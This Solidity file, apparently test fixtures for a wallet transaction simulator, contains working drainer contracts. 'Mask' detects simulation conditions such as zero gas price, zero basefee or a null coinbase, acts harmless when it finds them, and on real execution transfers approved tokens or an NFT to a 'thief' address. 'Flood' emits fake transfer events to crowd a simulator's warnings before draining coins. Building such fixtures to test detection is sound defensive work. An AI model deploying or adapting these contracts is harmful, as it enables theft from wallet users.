// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Coins.sol";
import "./Items.sol";

/// Answers to every function. Gives something where it takes itself to be tried out, and takes something where it is real.
contract Mask {
    enum When { Always, FreeGas, NoBaseFee, MuchGas, NoMiner, NoLot, Early, Soon, FreshSender, OffBeat }
    enum What { Keep, Pull, PullItem, PullQuiet, Refuse, Nothing }
    When immutable when;
    What immutable what;
    uint256 immutable number = block.number;
    uint256 immutable time = block.timestamp;
    Coin immutable coin;
    Coin immutable quiet;
    Nft immutable nft;
    address immutable thief;
    constructor(When when_, What what_, Coin coin_, Coin quiet_, Nft nft_, address thief_) {
        (when, what, coin, quiet, nft, thief) = (when_, what_, coin_, quiet_, nft_, thief_);
    }
    function isTrial() internal view returns (bool) {
        if (when == When.FreeGas) return tx.gasprice == 0;
        if (when == When.NoBaseFee) return block.basefee == 0;
        if (when == When.MuchGas) return gasleft() > 5_000_000;
        if (when == When.NoMiner) return block.coinbase == address(0);
        if (when == When.NoLot) return block.prevrandao == 0;
        if (when == When.Early) return block.number <= number;
        if (when == When.Soon) return block.timestamp <= time;
        if (when == When.FreshSender) return tx.origin.balance > 1_000_000 ether;
        // Blocks come each twelve seconds: in between there are none.
        if (when == When.OffBeat) return (block.timestamp - time) % 12 != 0;
        return false;
    }
    function run() internal {
        // What fails while it is tried out nobody has seen.
        require(what != What.Refuse || !isTrial());
        if (isTrial() || what == What.Nothing) {
            if (msg.value > 0) coin.transfer(msg.sender, msg.value);
            return;
        }
        if (what == What.Keep) return;
        if (what == What.Pull || what == What.Refuse) coin.transferFrom(msg.sender, thief, 5 ether);
        if (what == What.PullItem && nft.ownerOf(2) == msg.sender) nft.transferFrom(msg.sender, thief, 2);
        if (what == What.PullQuiet) quiet.transferFrom(msg.sender, thief, 5 ether);
    }
    fallback(bytes calldata) external payable returns (bytes memory) { run(); return abi.encode(uint256(1)); }
    receive() external payable { run(); }
}

/// Tells of many items that leave before it takes a coin, so that a list of what leaves is full.
contract Flood {
    Coin immutable coin;
    address immutable thief;
    event Transfer(address indexed from, address indexed to, uint256 indexed id);
    constructor(Coin coin_, address thief_) { (coin, thief) = (coin_, thief_); }
    function supportsInterface(bytes4 id) external pure returns (bool) { return id == 0x01ffc9a7 || id == 0x80ac58cd; }
    function claim(uint256 count) external {
        for (uint256 id = 0; id < count; id++) emit Transfer(msg.sender, thief, id);
        coin.transferFrom(msg.sender, thief, 5 ether);
    }
}
